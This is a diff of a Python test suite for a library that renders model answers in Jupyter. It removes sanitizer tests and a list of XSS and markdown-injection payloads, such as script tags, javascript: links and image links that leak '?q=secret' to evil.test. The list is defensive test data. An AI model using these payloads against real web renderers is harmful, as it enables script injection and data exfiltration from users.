@@ -13,20 +13,17 @@ import time
 import types
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
-from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 
 import nbformat
 import pytest
-from hypothesis import given, settings
-from hypothesis import strategies as st
+from display.pages import check_harmless, shown
 from IPython.core.displaypub import DisplayPublisher
 from IPython.core.interactiveshell import InteractiveShell
 from IPython.utils.capture import CapturedIO, capture_output
 from jupyter_client.manager import KernelManager
 from jupyter_core.utils import ensure_event_loop
-from markdown_it import MarkdownIt
 from nbclient import NotebookClient
 from replay import EVENT_STREAM, ReplayServer, Reply, Request
 from traitlets.config import Config
@@ -39,9 +36,8 @@ from openai_compat import (
     Conversation,
     EmbeddingResponse,
     StreamEvent,
-    Usage,
 )
-from openai_compat.display import html as _html
+from openai_compat.display.sanitize import markdown_parser
 from openai_compat.integrations.jupyter import NotebookSink
 from openai_compat.integrations.jupyter import sink as jupyter
 from openai_compat.wire.response import CallInfo, Choice, ParsedResponse
@@ -407,286 +403,6 @@ def test_importing_it_loads_neither_ipython_nor_markdown() -> None:
     subprocess.run([sys.executable, "-c", code], check=True, timeout=60)
 
 
-# What a page may hold.
-
-TAGS = frozenset(
-    {"a", "b", "blockquote", "br", "code", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol"}
-    | {"p", "pre", "s", "small", "span", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul"}
-)
-ATTRIBUTES = {
-    "href": re.compile(r"(https?://|mailto:).*", re.IGNORECASE | re.DOTALL),
-    "title": re.compile(r".*", re.DOTALL),
-    "class": re.compile(r"language-\S*"),
-    "style": re.compile(r"text-align:(left|right|center)|white-space: pre-wrap"),
-    "start": re.compile(r"\d+"),
-    "open": re.compile(r""),
-    "dir": re.compile(r"auto"),
-}
-
-
-class Checker(HTMLParser):
-    def __init__(self) -> None:
-        super().__init__()
-        self.text = ""
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        assert tag in TAGS, tag
-        for name, value in attrs:
-            assert name in ATTRIBUTES, (tag, name)
-            assert ATTRIBUTES[name].fullmatch(value or ""), (tag, name, value)
-
-    def handle_data(self, data: str) -> None:
-        self.text += data
-
-    def handle_comment(self, data: str) -> None:
-        raise AssertionError(data)
-
-    handle_decl = handle_pi = unknown_decl = handle_comment
-
-
-def check_harmless(page: str) -> str:
-    """The page's text."""
-    checker = Checker()
-    checker.feed(page)
-    checker.close()
-    return checker.text
-
-
-EVIL = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<style>*{display:none}</style>",
-    "<iframe src=//evil.test>",
-    "<!-- a --> <?php ?> <!DOCTYPE x> <![CDATA[ x ]]>",
-    "</pre></details></div><script>1</script>",
-    "![secret](https://evil.test/?q=secret)",
-    "![secret][r]\n\n[r]: https://evil.test/?q=secret",
-    "[![i](https://evil.test/x.png)](https://evil.test)",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#115;cript:alert(1))",
-    "[x](java\\\nscript:1) [x](&#x0a;javascript:1) [x](\x01javascript:1)",
-    "[x](data:text/html,<script>1</script>)",
-    "[x](data:image/svg+xml;base64,AAAA) [x](vbscript:1) [x](file:///etc/passwd)",
-    "[x](//evil.test) [x](/api/shutdown) [x](?a=1)",
-    '<javascript:alert(1)> <https://ok.test/"onclick=1>',
-    '[x](https://ok.test/"onmouseover="alert(1)) [x](https://ok.test "t\\" onclick=\\"1")',
-    '```"><script>alert(1)</script>\ncode\n```',
-    "``` `<script>` \n</code></pre><script>1</script>",
-    "    </code></pre><script>1</script>",
-    "`</code><script>1</script>`",
-    "$</span><script>1</script>$ \\(<script>1</script>\\) $$<img src=x>$$ \\[<b>\\]",
-    "| <script>1</script> |\n|:-:|\n| <img src=x> |",
-    "&lt;script&gt;1&lt;/script&gt; &#60;script&#62;",
-    "# <script>1</script>\n> <script>1</script>\n- <script>1</script>",
-    "\ud83d [\ud83d](https://ok.test/\ud83d) \x00",
-]
-
-
-@pytest.mark.parametrize("text", EVIL)
-def test_nothing_in_an_answer_is_more_than_text(text: str) -> None:
-    call = ChatResponse(model=text, choices=(Choice(text=text, reasoning=text, finish_reason=text),))
-    check_harmless(_html.chat_html(call))
-
-
-@given(
-    st.lists(st.sampled_from([*EVIL, "\n", "\n\n", " ", "$", "\\", "`", "*", "[", "](", ")", "|", "<", ">", "x", '"']))
-)
-def test_nothing_in_any_text_is_more_than_text(pieces: list[str]) -> None:
-    check_harmless(_html.answer_html("".join(pieces), "".join(pieces)))
-
-
-@settings(deadline=None)
-@given(st.text())
-def test_any_text_can_be_sent(text: str) -> None:
-    page = _html.answer_html(text, text)
-    page.encode("utf-8")
-    check_harmless(page)
-
-
-def test_without_markdown_it_the_text_is_shown_as_it_stands(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setitem(sys.modules, "markdown_it", None)
-    _html.markdown_parser.cache_clear()
-    try:
-        page = _html.markdown_to_html("**a** <script>\n$x$")
-    finally:
-        _html.markdown_parser.cache_clear()
-    assert check_harmless(page) == "**a** <script>\n$x$"
-
-
-def test_a_text_that_is_too_long_to_parse_is_shown_as_it_stands() -> None:
-    text = "[" * (_html.MAX_MARKDOWN + 1)
-    assert check_harmless(_html.markdown_to_html(text)) == text
-
-
-@pytest.mark.parametrize(
-    ("text", "page"),
-    [
-        ("costs $5 and $10", "<p>costs <span>$</span>5 and <span>$</span>10</p>"),
-        ('"$5" "$a"', "<p>&quot;<span>$</span>5&quot; &quot;<span>$</span>a&quot;</p>"),
-        (r"so $a_1 * b * c_2 < 3$.", r"<p>so $a_1 * b * c_2 &lt; 3$.</p>"),
-        (r"so \(a_1\) and \[ b*c*d \\[2pt] e*f*g \]", r"<p>so \(a_1\) and \[ b*c*d \\[2pt] e*f*g \]</p>"),
-        ("`$HOME` is \\$x", "<p><code>$HOME</code> is <span>$</span>x</p>"),
-        ("$PATH, `$HOME` and `$x`.", "<p><span>$</span>PATH, <code>$HOME</code> and <code>$x</code>.</p>"),
-        ("[$a*b*c$](https://x.test)", '<p><a href="https://x.test">$a*b*c$</a></p>'),
-        ("~~a~~ **b**", "<p><s>a</s> <strong>b</strong></p>"),
-        # Formulas with lines of their own.
-        ("$$\na_1 \\\\ b_2\n$$", "<p>$$\na_1 \\\\ b_2\n$$</p>"),
-        ("so\n$$\nf = a\n+ b\n- c\n$$\nx", "<p>so</p>\n<p>$$\nf = a\n+ b\n- c\n$$</p>\n<p>x</p>"),
-        ("\\[\na\n> b\n=\n# c\n\\]", "<p>\\[\na\n&gt; b\n=\n# c\n\\]</p>"),
-        ("> $$a\n> - b$$", "<blockquote>\n<p>$$a\n- b$$</p>\n</blockquote>"),
-        ("$$ a $$ or\n- b $$", "<p>$$ a $$ or</p>\n<ul>\n<li>b <span>$</span><span>$</span></li>\n</ul>"),
-        ("\\[ a\n\n- b \\]", "<p>[ a</p>\n<ul>\n<li>b ]</li>\n</ul>"),
-        # Links.
-        ("![cat](https://x.test/c.png)", '<p><a href="https://x.test/c.png">cat</a></p>'),
-        ("![](https://x.test/c.png)", '<p><a href="https://x.test/c.png">https://x.test/c.png</a></p>'),
-        ("[![cat](https://x.test/c.png)](https://y.test)", '<p><a href="https://y.test">cat</a></p>'),
-        (
-            "(https://x.test/a_(b)_c), **https://y.test?**",
-            '<p>(<a href="https://x.test/a_(b)_c">https://x.test/a_(b)_c</a>), '
-            '<strong><a href="https://y.test">https://y.test</a>?</strong></p>',
-        ),
-        ("[https://x.test](https://y.test)", '<p><a href="https://y.test">https://x.test</a></p>'),
-        ("[x]()", "<p><a>x</a></p>"),
-        ("`https://x.test` ftp://x.test", "<p><code>https://x.test</code> ftp://x.test</p>"),
-    ],
-)
-def test_markdown_and_formulas(text: str, page: str) -> None:
-    assert _html.markdown_to_html(text).strip().replace(' dir="auto"', "") == page
-
-
-def test_each_block_has_a_direction_of_its_own() -> None:
-    page = _html.answer_html("# a\n\nb\n\n- c\n\n> d\n\n| e |\n|---|\n| f |", "g")
-    assert re.findall(r'<(\w+) dir="auto"', page) == ["pre", "h1", "p", "li", "blockquote", "p", "th", "td"]
-
-
-@pytest.mark.parametrize("piece", ["[", "![", "[*", "\\(", "\\[\n", "[a]: b ["])
-def test_no_text_takes_quadratic_time(piece: str) -> None:
-    text = piece * (_html.MAX_MARKDOWN // len(piece))
-    began = time.process_time()
-    _html.markdown_to_html(text)
-    # What is searched again from each bracket takes six seconds and more.
-    assert time.process_time() - began < 4
-
-
-@pytest.mark.parametrize("text", ["!" * 100_000, " ".join("`" * length for length in range(1, 440))])
-def test_no_export_takes_quadratic_time(text: str) -> None:
-    began = time.process_time()
-    _html.tame_markdown(text)
-    assert time.process_time() - began < 8
-
-
-# Markdown, for exports.
-
-RENDERERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True})]
-"""They let HTML through, with tables and without."""
-
-
-@pytest.mark.parametrize("text", EVIL)
-def test_markdown_for_exports_is_no_more_than_text(text: str) -> None:
-    answer = ChatResponse(model=text, choices=(Choice(text=text, finish_reason=text),))
-    for renderer in RENDERERS:
-        check_harmless(renderer.render(answer._repr_markdown_()))
-
-
-@given(
-    st.lists(st.sampled_from([*EVIL, "\n", "\n\n", " ", "$", "\\", "`", "*", "[", "](", ")", "|", "<", ">", "x", '"']))
-)
-def test_no_markdown_for_exports_is_more_than_text(pieces: list[str]) -> None:
-    for renderer in RENDERERS:
-        check_harmless(renderer.render(_html.tame_markdown("".join(pieces))))
-
-
-@pytest.mark.parametrize(
-    ("text", "markdown"),
-    [
-        ("# a\n\n- **b** `<c>`\n\n```html\n<d>\n```", "# a\n\n- **b** `<c>`\n\n```html\n<d>\n```"),
-        ("a <b> & c", "a &lt;b> & c"),
-        ("![cat](https://x.test) [y](https://y.test)", "[cat](https://x.test) [y](https://y.test)"),
-        ("[x](javascript:1)", "[x\\](javascript:1)"),
-        (r"\(a_1\), \[ b<c \], $d$, $5", r"$a_1$, $$ b< c $$, $d$, \$5"),
-        (r"\input{x} \* \\", r"\\input{x} \* \\"),
-        (r"$\input{x}$", "```text\n$\\input{x}$\n```"),
-        ("`x`{=latex}", "```text\n`x`{=latex}\n```"),
-        ("[a][b]\n\n[b]: javascript:1\n\n```", "````text\n[a][b]\n\n[b]: javascript:1\n\n```\n````"),
-        ("|a|b|\n|-|-|\n|`|<i>`|", "```text\n|a|b|\n|-|-|\n|`|<i>`|\n```"),
-        ("`a\n<script>1</script>`", "```text\n`a\n<script>1</script>`\n```"),
-    ],
-)
-def test_markdown_for_exports(text: str, markdown: str) -> None:
-    assert _html.tame_markdown(text) == markdown
-
-
-def test_values_as_markdown() -> None:
-    usage = Usage(input_tokens=3, total_tokens=2000)
-    assert usage._repr_markdown_() == "|  | tokens |\n| --- | --- |\n| input | 3 |\n| total | 2\\,000 |"
-    answer = ChatResponse(model="m_1", choices=(Choice(text="**a**", reasoning="hm"), Choice(refusal="no")))
-    assert answer._repr_markdown_() == "**a**\n\n---\n\nno\n\nm\\_1 · unknown"
-    parsed = ParsedResponse(choices=(Choice(text="1"),), parsed=7)
-    assert parsed._repr_markdown_() == "```text\n7\n```\n\nunknown"
-    vectors = EmbeddingResponse(vectors=[[1.0]])
-    assert vectors._repr_markdown_().startswith("|  | vector |\n| --- | --- |\n| 0 | 1\\.0000 |\n\n1 × 1 float32")
-    messages = [{"role": "user", "content": "*hi*"}, {"role": "assistant", "content": "*yes*"}]
-    conversation = Conversation(lambda request, **options: ChatResponse(), system="brief", messages=messages)
-    assert conversation._repr_markdown_() == (
-        "**system**\n\n```text\nbrief\n```\n\n**user**\n\n```text\n*hi*\n```\n\n**assistant**\n\n*yes*"
-    )
-
-
-# Values.
-
-
-def shown(page: str) -> str:
-    """The page's words."""
-    return " ".join(check_harmless(page.replace("<", " <")).split())
-
-
-def test_an_answer_shows_its_choices_its_calls_and_its_cost() -> None:
-    with ReplayServer([chat_reply("**hi**", tool_calls=[tool_call("add", '{"a": "<b>"}')])]) as server:
-        with Client(server.url, model="m") as client:
-            page = _html.chat_html(client.chat("hi"))
-    assert "<strong>hi</strong>" in page
-    assert '→ add({"a": "<b>"})' in shown(page)
-    assert "m-served · 3 + 2 tokens" in shown(page)
-    two = ChatResponse(choices=(Choice(text="one"), Choice(index=1, refusal="no")), truncated=True)
-    assert shown(_html.chat_html(two)) == "one no not finished"
-
-
-def test_a_typed_answer_shows_its_value() -> None:
-    answer = ParsedResponse(choices=(Choice(text='{"a": 1}', finish_reason="stop"),), parsed={"a": "<b>"})
-    assert shown(_html.chat_html(answer)) == "{'a': '<b>'} stop"
-
-
-def test_usage_is_a_table_of_what_is_known() -> None:
-    assert shown(_html.usage_html(Usage(input_tokens=1234, total_tokens=2000))) == "tokens input 1,234 total 2,000"
-    assert "of it cached 7" in shown(_html.usage_html(Usage(cached_tokens=7)))
-
-
-def test_embeddings_show_how_they_begin() -> None:
-    answer = EmbeddingResponse(vectors=[[0.5] * 8] * 12, model="m", usage=Usage(input_tokens=5))
-    words = shown(_html.embeddings_html(answer))
-    assert words.startswith("vector 0 0.5000, 0.5000, 0.5000, 0.5000, 0.5000, … 1 ")
-    assert words.endswith("… 2 more 12 × 8 float32 · m · 5 tokens")
-    assert shown(_html.embeddings_html(EmbeddingResponse(vectors=()))) == "vector 0 × 0 float32 · 0 tokens"
-
-
-def test_a_conversation_shows_who_said_what() -> None:
-    messages = [
-        {
-            "role": "user",
-            "content": [{"type": "text", "text": "<b>?"}, {"type": "image_url", "image_url": {"url": "u"}}],
-        },
-        {"role": "assistant", "content": "*yes*", "tool_calls": [tool_call("add", "{}")]},
-        {"role": "tool", "content": "<3>", "tool_call_id": "call_1"},
-    ]
-    conversation = Conversation(lambda request, **options: ChatResponse(), system="brief", messages=messages)
-    page = _html.conversation_html(conversation)
-    assert "<em>yes</em>" in page
-    assert shown(page) == "system brief user <b>? [image_url] assistant yes → add({}) tool <3>"
-    empty = Conversation(lambda request, **options: ChatResponse())
-    assert "nothing was said yet" in _html.conversation_html(empty)
-
-
 # The magic and the sink, in this process.
 
 
@@ -902,7 +618,7 @@ def test_a_stream_that_fails_keeps_what_came_and_says_why(shell: Any) -> None:
 
 def test_the_sink_needs_the_extra_in_a_notebook(shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setitem(sys.modules, "markdown_it", None)
-    _html.markdown_parser.cache_clear()
+    markdown_parser.cache_clear()
     with pytest.raises(ConfigurationError, match=re.escape("openai-compat[jupyter]")):
         NotebookSink()
 
@@ -965,7 +681,7 @@ def test_the_stream_does_not_wait_for_a_drawing(shell: Any, monkeypatch: pytest.
 
     with capture_output():
         sink.emit(StreamEvent("text", "one"))
-        monkeypatch.setattr(_html, "answer_html", slow)
+        monkeypatch.setattr(jupyter, "answer_html", slow)
         sink.emit(StreamEvent("text", "two"))
         assert drawing.wait(10)
         reader = threading.Thread(target=sink.emit, args=(StreamEvent("text", "three"),))
@@ -979,7 +695,7 @@ def test_the_stream_does_not_wait_for_a_drawing(shell: Any, monkeypatch: pytest.
 
 
 def test_a_long_answer_is_redrawn_every_second(shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(_html, "answer_html", lambda *args, **options: "x" * 80_000)
+    monkeypatch.setattr(jupyter, "answer_html", lambda *args, **options: "x" * 80_000)
     sink = NotebookSink()
     with capture_output():
         sink.emit(StreamEvent("text", "one"))
